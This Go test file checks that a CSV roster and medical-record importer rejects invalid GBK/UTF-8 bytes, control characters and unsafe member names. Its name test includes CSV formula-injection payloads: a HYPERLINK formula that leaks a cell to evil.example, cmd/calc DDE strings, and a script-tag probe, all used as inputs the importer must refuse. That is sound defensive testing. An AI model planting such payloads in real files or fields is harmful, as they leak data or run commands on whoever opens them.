package importer

import (
	"context"
	"strings"
	"testing"

	"golang.org/x/text/encoding/simplifiedchinese"

	"huzhu/model"
)

// TestInvalidTextIsARowProblem: bytes that are not text in the file's encoding, and control
// characters, make the row a problem that names the column; nothing is repaired into U+FFFD.
func TestInvalidTextIsARowProblem(t *testing.T) {
	s, db, _ := newService(t)
	gbk := func(s string) string {
		b, err := simplifiedchinese.GBK.NewEncoder().String(s)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	// The roster of the issue: a GBK file whose second name is the bytes 81 20 ff fe 80.
	file := gbk(rosterHeader+"U001,示例工会,张一,"+idA+",,,,,,,,,,,\nU001,,") + "\x81\x20\xff\xfe\x80" +
		gbk(","+idB+",,,,,,,,,,,\nU001,,李三,"+idC+",,,,,,,,,,,\n")
	rep, err := s.Roster(context.Background(), "gbk.csv", strings.NewReader(file), asActor("staff"))
	if err != nil {
		t.Fatal(err)
	}
	if rep.Added != 2 || rep.Bad != 1 || !strings.HasPrefix(problems(rep)[3], "姓名：含有无法识别的字节") {
		t.Errorf("GBK roster = added %d bad %d %v; want 2 added and row 3's 姓名 reported as unreadable", rep.Added, rep.Bad, problems(rep))
	}

	// UTF-8 (with BOM, so that it is not taken for GBK): control characters and broken bytes in
	// the free-text columns of both imports.
	rep, err = s.Roster(context.Background(), "utf8.csv", strings.NewReader("\ufeff"+roster(
		"U002,示例\x00工会,王五,"+idD+",900000000004,,,,,,,,,,",
		"U003,示例\t工会,赵六,"+idNumber(3)+",,,,,,,,,,,",
		"U004,示例\xe5\x8f工会,孙七,"+idNumber(4)+",,,,,,,,,,,",
	)), asActor("staff"))
	if err != nil {
		t.Fatal(err)
	}
	want := map[int]string{2: "工会名称：含有换行", 3: "工会名称：含有换行", 4: "工会名称：含有无法识别的字节"}
	for row, prefix := range want {
		if !strings.HasPrefix(problems(rep)[row], prefix) {
			t.Errorf("row %d problem %q, want %q…", row, problems(rep)[row], prefix)
		}
	}
	if rep.Bad != 3 {
		t.Errorf("UTF-8 roster bad = %d, want 3: %v", rep.Bad, problems(rep))
	}
	rep, err = s.Medical(context.Background(), "m.csv", strings.NewReader("\ufeff"+medicalHeader+
		"JS1,,"+idA+",门诊,2026-03-14,,示例\x00医院,100,0,100,0,0,,\n"+
		"JS2,,"+idA+",门诊,2026-03-14,,示例\xff医院,100,0,100,0,0,,\n"+
		"JS\r3,,"+idA+",门诊,2026-03-14,,示例医院,100,0,100,0,0,,\n"+
		"JS4,,"+idA+",门诊,2026-03-14,,示例医院,100,0,100,0,0,,\n"), asActor("staff"))
	if err != nil {
		t.Fatal(err)
	}
	want = map[int]string{2: "医院：含有换行", 3: "医院：含有无法识别的字节", 4: "结算单号：含有换行"}
	for row, prefix := range want {
		if !strings.HasPrefix(problems(rep)[row], prefix) {
			t.Errorf("medical row %d problem %q, want %q…", row, problems(rep)[row], prefix)
		}
	}
	if rep.Added != 1 || rep.Bad != 3 {
		t.Errorf("medical = added %d bad %d, want 1 and 3: %v", rep.Added, rep.Bad, problems(rep))
	}

	for _, q := range []struct{ table, col string }{{"members", "name"}, {"unions", "name"}, {"medical_records", "hospital"}, {"import_batches", "report"}} {
		var values []string
		db.Table(q.table).Pluck(q.col, &values)
		for _, v := range values {
			if model.CheckText(strings.NewReplacer("\n", "", "\r", "", "\ufeff", "").Replace(v)) != nil { // a report has line breaks and a BOM
				t.Errorf("%s.%s holds %q", q.table, q.col, v)
			}
		}
	}
}

// TestRosterNames: a name is letters, the middle dot and spaces; formulas, markup and control
// characters are row problems, and the dot variants are stored as the one middle dot.
func TestRosterNames(t *testing.T) {
	s, db, _ := newService(t)
	names := []string{
		`=HYPERLINK("http://evil.example/?leak="&E2,"点此核对")`,
		"+cmd|' /C calc'!A0",
		"@SUM(1+1)",
		"-2+3+cmd|' /C calc'!A0",
		"<script>alert(1)</script>",
		"张\x00三",
		"阿依古丽・买买提",
		"John Smith",
		"𠀀𪚥",
	}
	var rows []string
	for i, n := range names {
		rows = append(rows, "U001,示例工会,"+csvQuote(n)+","+idNumber(i)+",,,,,,,,,,,")
	}
	rep, err := s.Roster(context.Background(), "names.csv", strings.NewReader(roster(rows...)), asActor("staff"))
	if err != nil {
		t.Fatal(err)
	}
	for row := 2; row <= 7; row++ {
		if p := problems(rep)[row]; !strings.HasPrefix(p, "姓名：") {
			t.Errorf("row %d (%q): problem %q, want one about 姓名", row, names[row-2], p)
		}
	}
	var stored []string
	db.Model(&model.Member{}).Order("id").Pluck("name", &stored)
	if got, want := strings.Join(stored, "|"), "阿依古丽·买买提|John Smith|𠀀𪚥"; got != want {
		t.Errorf("stored names %q, want %q", got, want)
	}
}

func csvQuote(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
